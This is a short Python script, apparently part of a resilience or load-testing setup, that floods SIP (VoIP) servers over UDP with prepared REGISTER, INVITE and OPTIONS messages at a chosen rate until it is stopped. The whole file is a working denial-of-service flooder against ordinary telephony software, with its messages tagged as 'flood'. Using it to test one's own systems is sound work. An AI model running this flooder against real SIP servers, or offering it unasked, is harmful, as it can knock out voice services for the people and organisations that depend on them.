"""The attacker as a process: so many requests a second from one address until it is ended."""

from __future__ import annotations

import argparse
import itertools
import socket
import sys
import time
from typing import Final

#: Packets are sent in bursts of this length, as a program that does not care would.
_BURST_S: Final = 0.01
_METHODS: Final = ("REGISTER", "INVITE", "OPTIONS")
#: Written beforehand, so that the attacker costs little of the machine that is measured.
_PREPARED: Final = 20_000


def main() -> None:
    """Send until SIGTERM or until `--seconds` are over; prints "ready" first and how many it sent at last."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ports", required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    doors = [(options.host, int(port)) for port in options.ports.split(",")]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((options.address, 0))
        here = "{}:{}".format(*sock.getsockname())
        messages = [_message(number, here, doors[number % len(doors)]) for number in range(_PREPARED)]
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        _send(sock, messages, options.rate, options.seconds)


def _send(
    sock: socket.socket, messages: list[tuple[bytes, tuple[str, int]]], rate: int, seconds: float
) -> None:
    each = itertools.cycle(messages)
    began, sent = time.monotonic(), 0
    while (passed_s := time.monotonic() - began) < seconds:
        while sent < passed_s * rate:
            data, door = next(each)
            sock.sendto(data, door)
            sent += 1
        time.sleep(_BURST_S)


def _message(number: int, here: str, door: tuple[str, int]) -> tuple[bytes, tuple[str, int]]:
    method = _METHODS[number // 3 % len(_METHODS)]
    target = "{}:{}".format(*door)
    lines = [
        f"{method} sip:{1000 + number}@{target} SIP/2.0",
        f"Via: SIP/2.0/UDP {here};branch=z9hG4bK-flood-{number};rport",
        f"From: <sip:{1000 + number}@{target}>;tag={number}",
        f"To: <sip:{1000 + number}@{target}>",
        f"Call-ID: flood-{number}",
        f"CSeq: 1 {method}",
        "Max-Forwards: 70",
        f"Contact: <sip:{1000 + number}@{here}>",
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode(), door


if __name__ == "__main__":
    main()
